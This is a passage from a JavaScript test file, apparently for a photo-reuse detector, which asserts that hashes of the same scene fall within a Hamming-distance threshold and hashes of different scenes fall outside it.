      assert.ok(distance <= PHOTO_REUSE_MAX_DISTANCE, `scene ${seed}: ${distance} bits apart`);
    }
  });

  it('keeps different photos apart', async () => {
    for (const [i, a] of SEEDS.entries()) {
      for (const b of SEEDS.slice(i + 1)) {
        const distance = hammingDistance((await storedScene(a)).hash, (await storedScene(b)).hash);
        assert.ok(distance > PHOTO_REUSE_MAX_DISTANCE, `scenes ${a} and ${b}: only ${distance} bits apart`);
      }
    }
  });
});
